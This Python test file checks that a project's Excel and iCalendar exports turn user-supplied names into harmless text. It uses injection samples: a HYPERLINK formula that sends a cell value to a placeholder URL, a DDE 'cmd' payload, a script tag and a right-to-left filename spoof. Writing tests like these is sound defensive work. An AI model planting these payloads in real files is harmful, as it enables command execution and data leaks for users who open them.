"""Names and notes of users are text in every cell, whatever they begin with and however long."""

from __future__ import annotations

import io
import re
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pytest
import yaml
from icalendar import Calendar
from solved_plans import HERE, solved
from workbook_reader import every_cell, first_cells, opened

from braid.render.calendar import made as calendar_made
from braid.render.workbook import made
from braid.render.workbook.safe import LONGEST, Texts, like_a_formula

FORMULA = '=HYPERLINK("http://example.org/?x="&A1,"press")'
EVIL = [
    FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "<script>alert(1)</script>",
    "abc\u202egnp.exe\u202c", "x" * 10_000, "long " * 8_000, " =1+1", "a\x07b",
]  # fmt: skip
ALLOWED = re.compile(
    r"=(SUMIFS|SUBTOTAL|SUM|ROUND|IF|\(?\$?[A-Z]{1,3}\$?\d|-?\d)[A-Za-z0-9_\s(){},:$.<>=&\"*/+\-!]*"
)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A plan in which everything that may have a name of its own has one of these."""
    top = tmp_path_factory.mktemp("evil")
    data = yaml.safe_load((HERE / "portfolio" / "city.yaml").read_text())
    data["name"] = FORMULA
    data["organizations"] = [{"id": "house", "name": EVIL[1], "cash": {"opening": 1000}}]
    data["programs"][0]["name"] = EVIL[2]
    data["groups"][0]["name"] = EVIL[3]
    data["costs"] = [
        {"id": f"cost{k}", "name": name, "category": "tuition_fees", "per_participant": 100}
        for k, name in enumerate(EVIL)
    ] + [
        {"id": "room", "name": EVIL[4], "category": "case_management", "amount": 900,
         "basis": "space", "weights": {"autumn": 3}, "basis_document": EVIL[0]},
    ]  # fmt: skip
    data["awards"] = [
        {"id": f"award{k}", "name": name, "stream": "employer_contribution", "amount": 1500,
         "start": "2026-07-01", "end": "2027-03-31"}
        for k, name in enumerate(EVIL[:9])
    ]  # fmt: skip
    (top / "evil.yaml").write_text(yaml.safe_dump(data), encoding="utf-8")
    return solved(top / "evil.yaml", top / "plan")


@pytest.fixture(scope="module")
def content(folder: Path) -> bytes:
    return made(folder)["report.xlsx"]


def test_no_text_of_a_user_is_in_a_formula(content: bytes) -> None:
    cells = every_cell(opened(content, formulas=True), lambda c: c.data_type == "f")
    assert len(cells) > 50
    for cell in cells:
        assert ALLOWED.fullmatch(cell.value), (cell.coordinate, cell.value[:80])
        assert not any(part in cell.value for part in ("HYPERLINK", "cmd", "script"))


def test_what_begins_like_a_formula_stays_text_when_it_is_edited(content: bytes) -> None:
    found = every_cell(
        opened(content, formulas=True),
        lambda c: c.data_type == "s" and like_a_formula(str(c.value)),
    )
    assert {FORMULA, *EVIL[1:4], EVIL[8]} <= {cell.value for cell in found}
    assert all(cell.quotePrefix for cell in found)


def test_nothing_is_longer_than_a_cell_and_what_was_cut_is_told(content: bytes) -> None:
    book = opened(content)
    texts = [c.value for c in every_cell(book, lambda c: isinstance(c.value, str))]
    assert max(map(len, texts)) <= LONGEST
    assert EVIL[6] in texts
    assert any(text.endswith("a cell holds no more)") for text in texts)
    assert any("Texts cut to the 32,767 characters" in text for text in first_cells(book["About"]))


def test_marks_of_direction_and_control_characters_are_gone(content: bytes) -> None:
    with ZipFile(io.BytesIO(content)) as file:
        every = "".join(
            file.read(name).decode() for name in file.namelist() if name.endswith(".xml")
        )
    assert not re.search("[\u202a-\u202e\u2066-\u2069\x07]", every)
    assert "abcgnp.exe" in every
    assert "<script>" not in every
    assert "&lt;script&gt;" in every


def test_the_numbers_are_still_right(content: bytes) -> None:
    assert first_cells(opened(content)["Summary"])["Does it add up?"] == "yes, to the cent"


def test_the_calendar_has_them_as_text_too(folder: Path) -> None:
    raw = calendar_made(folder)["deadlines.ics"]
    events = Calendar.from_ical(raw).walk("VEVENT")
    told = " ".join(str(event["description"]) for event in events)
    assert "+1+cmd" in told
    assert b"\xe2\x80\xae" not in raw
    assert max(map(len, raw.split(b"\r\n"))) <= 75


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("plain", "plain"), ("\u202eabc", "abc"), ("a\ud800b", "a\ufffdb"), ("a\nb", "a\nb"),
        ("\U0001f600" * 20_000, None), ("y" * LONGEST, "y" * LONGEST), ("y" * (LONGEST + 1), None),
    ],
)  # fmt: skip
def test_a_text_fits_a_cell_in_the_units_of_excel(text: str, clean: str | None) -> None:
    found = Texts().clean(text)
    assert len(found.encode("utf-16-le")) // 2 <= LONGEST
    assert found == clean if clean is not None else found.endswith("no more)")


def test_the_file_opens_without_repair(content: bytes) -> None:
    """Excel repairs what two names, or a name that is a cell, would break."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert len(book.sheetnames) == len({name.lower() for name in book.sheetnames})
    assert all(len(name) <= 31 for name in book.sheetnames)
    for name in book.defined_names:
        assert re.fullmatch(r"[a-z]+_[a-z_]+", name)
